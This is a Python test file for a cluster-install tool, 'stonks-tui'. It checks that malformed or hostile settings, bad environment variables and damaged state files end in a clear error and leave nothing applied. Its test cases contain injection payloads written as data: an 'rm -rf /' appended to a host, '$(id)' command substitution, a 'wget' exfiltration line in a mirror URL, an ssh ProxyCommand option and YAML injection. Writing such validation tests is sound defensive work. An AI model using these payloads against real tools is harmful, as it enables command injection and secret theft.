"""Bad input, end to end: malformed answers files and hostile values given to `stonks-tui --demo install --yes`
each end with a clear error naming the setting (exit 2, no traceback) and nothing applied: no journal, no
namespace of the install in the (simulated) cluster. The per-rule table is tests/test_settings.py."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.conftest import PYTHON

CASES = [
    ("not a number", "nfs_port: twenty\n", "nfs_port"),
    ("shell metacharacters in a host", 'woodpecker_host: "ci.example.test; rm -rf /"\n', "woodpecker_host"),
    ("command substitution in a name", 'kargo_project: "$(id)"\n', "kargo_project"),
    ("YAML injected into a name", 'live_namespace: "a\\nkind: ClusterRoleBinding"\n', "live_namespace"),
    ("a very long value", f"repo_name: {'a' * 5000}\n", "repo_name"),
    ("a secret in the answers file", "gitea_admin_password: hunter2hunter2\n", "keyring"),
    ("a misspelt setting", "woodpeker_host: ci.example.test\n", "did you mean woodpecker_host"),
    ("not a mapping", "- nfs_server\n", "mapping"),
    ("invalid YAML", "nfs_server: [unclosed\n", "is not valid YAML at line"),
    # Issue 15: values every consumer would refuse (or worse, accept) passed `check` before.
    ("a malformed IPv6 URL", 'gitea_internal_url: "http://[::1:3000"\n', "gitea_internal_url: 'http://[::1:3000'"),
    ("credentials in a URL", 'gitea_internal_url: "http://op:Hunter2hunter2@gitea:3000"\n',
     "gitea_internal_url: must not carry a user name or password"),
    ("a keyring placeholder in a setting", 'nfs_path_argocd: "/volume1/k/${secret:gitea-admin-password}"\n',
     "nfs_path_argocd: must not contain '${'"),
    ("an Ingress host with capitals", "woodpecker_host: CI.example.test\n", "woodpecker_host: 'CI.example.test'"),
    ("an Ingress host with a port", "argocd_host: cd.example.test:8443\n", "argocd_host: 'cd.example.test:8443'"),
    ("an IP as Ingress host", "argocd_host: 10.1.2.3\n", "is an IP address"),
    ("a 60-character release name", f"kargo_release: {'k' * 60}\n", "helm allows at most 53"),
    ("options in a chart reference", 'kargo_chart: "oci://ghcr.io/a/b --set x=y"\n', "kargo_chart:"),
    ("a zero size", 'nfs_size_kargo: "0"\n', "nfs_size_kargo: '0': a volume needs a size above zero"),
    ("an endless helm timeout", "helm_timeout: 100000000000000000000h\n", "helm_timeout:"),
    ("a system namespace", "kargo_namespace: cert-manager\n", "kargo_namespace: 'cert-manager' belongs to"),
    ("a stage namespace shared with a pipeline", "beta_namespace: argocd\n", "beta_namespace: 'argocd' is also"),
    ("a shell command in the mirror URL", 'github_mirror_url: "git@github.com:x/y.git; wget http://e/$K #"\n',
     "github_mirror_url:"),
    ("an ssh option as the mirror host", 'github_mirror_url: "git@-oProxyCommand=touch /tmp/p:x/y"\n',
     "github_mirror_url:"),
    ("a C1 control character", 'repo_name: "a\\u009bb"\n', "repo_name: value contains control characters"),
    ("a deeply nested document", "a: " + "[" * 5000 + "]" * 5000 + "\n", "answers file"),
    ("a huge answers file", "# " + "x" * 300_000 + "\n", "at most 256 KiB"),
]


def run(state: Path, answers: Path, extra_env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("STONKS_")}
    env.update({"STONKS_SIM_SPEED": "0", **(extra_env or {})})
    return subprocess.run([PYTHON, "-m", "stonks_tui", "--state-dir", str(state), "--answers", str(answers), "--demo",
                           "install", "--yes"], env=env, capture_output=True, text=True, timeout=120)


def assert_nothing_applied(state: Path) -> None:
    assert not list(state.rglob("install.json")), "a journal was written"
    world = state / "demo" / "world.json"
    if world.exists():
        names = {o["object"]["metadata"]["name"] for o in json.loads(world.read_text())["kube"]["objects"]
                 if o["plural"] == "namespaces"}
        assert not names & {"woodpecker", "argocd", "kargo"}, names


@pytest.mark.parametrize(("content", "needle"), [pytest.param(c[1], c[2], id=c[0]) for c in CASES])
def test_bad_answers_exit_2_name_the_setting_and_apply_nothing(tmp_path: Path, content: str, needle: str) -> None:
    answers = tmp_path / "answers.yaml"
    answers.write_text(content)
    r = run(tmp_path / "state", answers)
    assert r.returncode == 2, (r.stdout[-1000:], r.stderr[-1000:])
    assert needle in r.stderr and "Traceback" not in r.stderr + r.stdout, r.stderr
    assert "hunter2hunter2" not in (r.stderr + r.stdout).lower()  # a refused secret is not echoed back
    assert_nothing_applied(tmp_path / "state")


@pytest.mark.parametrize("kind", ["fifo", "device", "huge-integer"])
def test_an_answers_file_that_is_no_file_or_holds_an_endless_number(tmp_path: Path, kind: str) -> None:
    """Issue 25: a FIFO as answers file hung, /dev/zero read without end, a 5000-digit YAML integer was a
    traceback. Each is a message naming the file, exit 2, at once."""
    import os

    answers = tmp_path / "answers.yaml"
    if kind == "fifo":
        os.mkfifo(answers)
    elif kind == "device":
        answers = Path("/dev/zero")
    else:
        answers.write_text("woodpecker_agent_replicas: " + "9" * 5000 + "\n")
    r = run(tmp_path / "state", answers)
    assert r.returncode == 2, (r.stdout[-1000:], r.stderr[-1000:])
    assert f"answers file {answers}" in r.stderr and "Traceback" not in r.stderr + r.stdout, r.stderr
    assert_nothing_applied(tmp_path / "state")


def test_non_utf8_answers_and_a_bad_environment_value(tmp_path: Path) -> None:
    answers = tmp_path / "answers.yaml"
    answers.write_bytes(b"nfs_server: \xff\xfe\n")
    r = run(tmp_path / "state", answers)
    assert r.returncode == 2 and "not UTF-8" in r.stderr and "Traceback" not in r.stderr
    answers.write_text("{}\n")
    r = run(tmp_path / "state", answers, {"STONKS_NFS_PORT": "abc"})
    assert r.returncode == 2 and "STONKS_NFS_PORT" in r.stderr and "Traceback" not in r.stderr
    assert_nothing_applied(tmp_path / "state")


@pytest.mark.parametrize(("var", "value", "needle"), [
    ("STONKS_CONCURRENCY", "abc", "STONKS_CONCURRENCY: 'abc' is not a whole number from 1 to 32"),
    ("STONKS_CONCURRENCY", "0", "STONKS_CONCURRENCY"),
    ("STONKS_GITEA_ADMIN_PASSWORD", "short", "STONKS_GITEA_ADMIN_PASSWORD: 5 characters; a secret needs at least 8"),
    ("STONKS_WOODPECKER_HOSTT", "ci.example.test", "did you mean STONKS_WOODPECKER_HOST?"),
    # issue 25: digits int() takes but people do not write, thousands of digits, a fault rule that is no regex
    ("STONKS_NFS_PORT", "2_049", "nfs_port: expected a whole number written with the digits 0-9"),
    ("STONKS_NFS_PORT", "２０４９", "nfs_port: expected a whole number written with the digits 0-9"),
    ("STONKS_WOODPECKER_AGENT_REPLICAS", "9" * 5000, "woodpecker_agent_replicas: expected a whole number"),
    ("STONKS_SIM_FAULTS", "kube:([=500", "the pattern is not a regular expression"),
    ("STONKS_SIM_FAULTS", "bogus", "is not TARGET:PATTERN=ACTION[xCOUNT]"),
    # bytes that are not UTF-8 (Python holds them as surrogates): refused, never stored or sent to Gitea
    ("STONKS_GITEA_ADMIN_PASSWORD", "\udcff\udcfeabcdefgh", "STONKS_GITEA_ADMIN_PASSWORD: is not valid UTF-8 text"),
])
def test_bad_stonks_variables_exit_2_before_anything_runs(tmp_path: Path, var: str, value: str, needle: str) -> None:
    answers = tmp_path / "answers.yaml"
    answers.write_text("{}\n")
    r = run(tmp_path / "state", answers, {var: value})
    assert r.returncode == 2, (r.stdout[-1000:], r.stderr[-1000:])
    assert needle in r.stderr and "Traceback" not in r.stderr + r.stdout, r.stderr
    assert_nothing_applied(tmp_path / "state")


# Every state file is an input too (issue 15.6): (file under the state dir, content, what the message says).
STATE_FILES = [
    ("stonks-demo/install.json", b"{not json", "journal"),
    ("stonks-demo/install.json", b'{"format": "stonks-tui-journal", "version": 1, "steps": {"a": {"state": "done", '
                                 b'"attempts": "x"}}}', "attempts is 'x'"),
    ("stonks-demo/install.json", b'{"format": "stonks-tui-journal", "version": 1, "plan": "install", '
                                 b'"context": "prod", "steps": {}}', "journal of context 'prod'"),
    ("demo/secrets.cryptfile", b"this is not a keyring\n", "is not an encrypted keyring"),
    ("demo/secrets.cryptfile", b"", "is empty"),
    ("demo/world.json", b'{"kube": 7}', "is not a simulated world"),
]


@pytest.mark.parametrize(("rel", "content", "needle"), STATE_FILES, ids=[f"{r} {n}" for r, _, n in STATE_FILES])
def test_a_damaged_state_file_is_a_message_not_a_traceback(tmp_path: Path, rel: str, content: bytes,
                                                           needle: str) -> None:
    state = tmp_path / "state"
    target = state / rel
    target.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    state.chmod(0o700)
    target.write_bytes(content)
    answers = tmp_path / "answers.yaml"
    answers.write_text("{}\n")
    for args in (["status"], ["install", "--yes"]):
        env = {k: v for k, v in os.environ.items() if not k.startswith("STONKS_")}
        env["STONKS_SIM_SPEED"] = "0"
        r = subprocess.run([PYTHON, "-m", "stonks_tui", "--state-dir", str(state), "--demo", *args], env=env,
                           capture_output=True, text=True, timeout=120)
        if args == ["status"] and "install.json" not in rel:
            continue  # status reads only the journals
        assert r.returncode == 2, (args, r.stdout[-1000:], r.stderr[-1000:])
        assert needle in r.stderr and "Traceback" not in r.stderr + r.stdout, r.stderr
